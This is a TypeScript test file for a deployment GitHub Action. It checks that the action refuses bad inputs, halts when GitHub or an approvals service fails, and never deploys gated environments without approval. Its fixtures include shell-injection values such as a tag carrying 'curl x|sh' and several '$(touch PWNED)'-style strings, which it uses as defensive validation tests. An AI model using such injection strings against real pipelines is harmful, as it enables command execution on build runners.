import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createHelloRepo } from "@relctl/example-hello-service/create-repo";
import {
  describeWithSshd,
  type GithubEmulator,
  type LoopbackServer,
  type SshdHandle,
  startGithubEmulator,
  startSshd,
} from "@relctl/testkit";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { startApprovalsEmulator } from "./support/approvals-emulator.js";
import { type ActionRunResult, runActionStep } from "./support/composite-runner.js";
import { packAction } from "./support/packed-action.js";

const API_TOKEN = "rlc_emulatedApprovalsToken_0123456789";

describeWithSshd(
  "the action refuses before touching anything, and fails loudly when the service falls behind",
  () => {
    let tmp: string;
    /** The action as published, packed for this file. */
    let actionDir: string;
    let sshd: SshdHandle;
    let github: GithubEmulator;
    let approvals: LoopbackServer;
    let workspace: string;
    /** Connections sshd logged before any job (the harness's own readiness probe). */
    let connectionsBefore = 0;
    let runs = 0;

    async function job(
      event: { ref: string; inputs?: Record<string, string> },
      withInputs: Record<string, string> = {},
    ): Promise<ActionRunResult> {
      runs++;
      return runActionStep({
        actionDir,
        with: {
          command: "stage",
          "api-url": approvals.url,
          "api-token": API_TOKEN,
          "ssh-private-key": readFileSync(sshd.userKeyPath, "utf8"),
          "known-hosts": `[127.0.0.1]:${sshd.port} ${sshd.hostPublicKeyLine}\n`,
          ...withInputs,
        },
        runnerTemp: mkdtempSync(join(tmp, `runner-${runs}-`)),
        workflow: {
          event: { ref: event.ref, ...(event.inputs ? { inputs: event.inputs } : {}) },
          eventName: event.inputs ? "workflow_dispatch" : "push",
          ref: event.ref,
          repository: "acme/hello",
          runId: String(100 + runs),
          actor: "octocat",
          token: "ghs_emulatedGithubToken0123456789abcdef",
          apiUrl: github.url,
          workspace,
        },
      });
    }

    /** Nothing left the runner: no variable for later steps, no output, no request, no SSH connection. */
    function expectUntouched(r: ActionRunResult) {
      expect(r.envFile).toBe("");
      expect(r.outputFile).toBe("");
      expect(approvals.requests).toEqual([]);
      expect(github.requests).toEqual([]);
      expect(sshd.connectionsSeen()).toBe(connectionsBefore);
    }

    beforeAll(async () => {
      tmp = mkdtempSync(join(tmpdir(), "relctl-action-refusals-"));
      actionDir = packAction(tmp);
      sshd = await startSshd();
      // sshd logs the harness's readiness probe a moment after it answered it.
      for (let i = 0; i < 40 && sshd.connectionsSeen() === 0; i++)
        await new Promise((r) => setTimeout(r, 50));
      connectionsBefore = sshd.connectionsSeen();
      const { bareDir } = await createHelloRepo({ dir: join(tmp, "repo") });
      workspace = join(tmp, "workspace");
      mkdirSync(workspace);
      writeFileSync(
        join(workspace, "relctl.yml"),
        `service: hello
repository: ${bareDir}
environments:
  stage:
    hosts:
      - { name: stage-1, address: 127.0.0.1, port: ${sshd.port}, user: ${sshd.user} }
    path: ${join(tmp, "hosts", "stage")}
    commands: { build: "true", start: "true" }
  production:
    hosts:
      - { name: prod-1, address: 127.0.0.1, port: ${sshd.port}, user: ${sshd.user} }
    path: ${join(tmp, "hosts", "production")}
    commands: { build: "true", start: "true" }
  live:
    hosts:
      - { name: live-1, address: 127.0.0.1, port: ${sshd.port}, user: ${sshd.user} }
    path: ${join(tmp, "hosts", "live")}
    commands: { build: "true", start: "true" }
`,
      );
    });

    beforeEach(async () => {
      await github?.close();
      await approvals?.close();
      github = await startGithubEmulator();
      approvals = await startApprovalsEmulator();
    });

    afterAll(async () => {
      await github?.close();
      await approvals?.close();
      await sshd?.stop();
      rmSync(tmp, { recursive: true, force: true });
    });

    it('a pushed tag v1";curl x|sh;" fails in validation: no GITHUB_ENV, no API call, no SSH connection', async () => {
      const tag = 'v1";curl x|sh;"';
      const r = await job({ ref: `refs/tags/${tag}` });
      expect(r.code).toBe(2);
      // main fails; post runs all the same (post-if: always()) and has no key to remove.
      expect(r.steps.map((s) => [s.name, s.code])).toEqual([
        ["main", 2],
        ["post", 0],
      ]);
      expect(r.state).toEqual({ "main-finished": "2" });
      expectUntouched(r);
      expect(r.log).toContain(
        '::error title=relctl::tag (the pushed tag): "v1\\";curl x|sh;\\"" is not an allowed tag (allowed: letters, digits and . _ - + /)',
      );
      // The summary shows the refused value as text: the pipe cannot open a table cell, nothing is markup.
      expect(r.summary).toContain("## ❌ relctl: the inputs were refused");
      expect(r.summary).toContain(
        String.raw`&quot;v1\\&quot;;curl x\|sh;\\&quot;&quot; is not an allowed tag`,
      );
    });

    it.each([
      ["a dispatched tag", { ref: "refs/heads/main", inputs: { tag: "$(touch PWNED)" } }, {}],
      ["a tag input", { ref: "refs/heads/main" }, { tag: "`touch PWNED`" }],
      [
        "a release id",
        { ref: "refs/heads/main", inputs: { tag: "v1.0.0", release_id: "1;touch PWNED" } },
        {},
      ],
      ["a command", { ref: "refs/tags/v1.0.0" }, { command: "stage; touch PWNED" }],
      ["an environment", { ref: "refs/tags/v1.0.0" }, { environment: "stage'$(touch PWNED)'" }],
    ])(
      "%s with shell syntax is refused the same way, and nothing runs it",
      async (_what, event, withInputs) => {
        const r = await job(event, withInputs);
        expect(r.code).toBe(2);
        expectUntouched(r);
        expect(r.log).toMatch(/::error title=relctl::(tag|release-id|command|environment)/);
        expect(existsSync(join(workspace, "PWNED"))).toBe(false);
      },
    );

    it("GitHub refusing the deployments (403) stops the run before the service and the hosts are touched", async () => {
      github.failNext("GET", /\/deployments$/, {
        status: 403,
        body: { message: "Resource not accessible by integration" },
      });
      const r = await job({ ref: "refs/tags/v1.0.0" });
      expect(r.code).toBe(4);
      expect(r.log).toContain("::error title=relctl::GitHub: reading the deployments of stage failed: 403");
      expect(r.log).toContain("permissions: deployments: write");
      expect(approvals.requests).toEqual([]);
      expect(sshd.connectionsSeen()).toBe(connectionsBefore);
      expect(r.envFile).toBe("");
    });

    it("an approvals service that does not answer stops the run before the hosts are touched", async () => {
      await approvals.close();
      const r = await job({ ref: "refs/tags/v1.0.0" });
      expect(r.code).toBe(4);
      expect(r.log).toMatch(/::error title=relctl::approvals service: POST \/release failed: ECONNREFUSED/);
      expect(r.log).not.toMatch(new RegExp(`^(?!::add-mask::).*${API_TOKEN}`, "m"));
      expect(sshd.connectionsSeen()).toBe(connectionsBefore);
    });

    it("required inputs are checked by relctl with a clear message", async () => {
      const noCommand = await job({ ref: "refs/tags/v1.0.0" }, { command: "" });
      expect(noCommand.code).toBe(2);
      expect(noCommand.log).toContain(
        "::error title=relctl::command: required (one of stage, production, rollback, status)",
      );
      const noTag = await job({ ref: "refs/heads/main" });
      expect(noTag.log).toContain("::error title=relctl::tag: required: run on a tag push, or pass the tag");
      const noToken = await job({ ref: "refs/tags/v1.0.0" }, { "api-token": "" });
      expect(noToken.log).toContain("::error title=relctl::api-token: required with api-url");
      expectUntouched(noToken);
    });

    it("a status move the service refuses does not stop the deploy; the run fails at the end, naming what was not sent", async () => {
      approvals.failNext("PATCH", /^\/release$/, {
        status: 409,
        body: {
          error: {
            code: "illegal_transition",
            message: "cannot move a release from initiated to stage_building",
          },
        },
      });
      const r = await job({ ref: "refs/tags/v1.0.0" });
      expect(r.code, r.log).toBe(4);
      expect(r.log).toContain(
        "::error title=relctl::first release of hello: nothing to roll back to; v1.0.0 is ready for manual testing; but the approvals service still shows release #1 as initiated; not sent: stage_building → stage_test_rollback → manual_testing (approvals service: PATCH /release: 409 cannot move a release from initiated to stage_building)",
      );
      // One PATCH was tried; the moves after it were held back, so the service never sees them out of order.
      expect(approvals.requests.map((q) => `${q.method} ${q.path}`)).toEqual([
        "POST /release",
        "PATCH /release",
      ]);
      expect(r.outputs).toMatchObject({ "release-id": "1", status: "initiated" });
      // The hosts were changed, and GitHub Deployments say so.
      expect(github.deploymentsOf("stage").map((d) => [d.ref, d.statuses.at(-1)?.state])).toEqual([
        ["v1.0.0", "success"],
      ]);
      expect(readFileSync(join(tmp, "hosts", "stage", "current", "VERSION"), "utf8").trim()).toBe("1.0.0");
    });

    it("an environment that needs approvals is never deployed without the approvals service, whatever its name", async () => {
      for (const environment of ["production", "live"]) {
        const seen = sshd.connectionsSeen();
        const r = await job(
          { ref: "refs/heads/main", inputs: { tag: "v1.0.0" } },
          { command: "production", environment, "api-url": "", "api-token": "" },
        );
        expect(r.code, r.log).toBe(2);
        expect(r.log).toContain(
          `::error title=relctl::api-url: ${environment} needs an approved release (environments.${environment}.gate)`,
        );
        expect(r.envFile).toBe("");
        expect(approvals.requests).toEqual([]);
        expect(github.requests).toEqual([]);
        expect(sshd.connectionsSeen()).toBe(seen);
        expect(existsSync(join(tmp, "hosts", environment))).toBe(false);
      }
    });

    it("without the approvals service the runbooks still run, and the summary says what needs the service", async () => {
      const r = await job({ ref: "refs/tags/v1.1.0" }, { "api-url": "", "api-token": "" });
      expect(r.code, r.log).toBe(0);
      expect(r.outputs).toMatchObject({ "release-id": "", status: "manual_testing" });
      expect(approvals.requests).toEqual([]);
      expect(r.summary).toContain("> [!NOTE]\n> No approvals service is configured (api-url)");
      expect(r.summary).toContain(
        "Approvals, release history and one-click rollbacks need the approvals service.",
      );
      expect(github.deploymentsOf("stage").map((d) => [d.ref, d.statuses.at(-1)?.state])).toEqual([
        ["v1.1.0", "success"],
      ]);
    });
  },
);
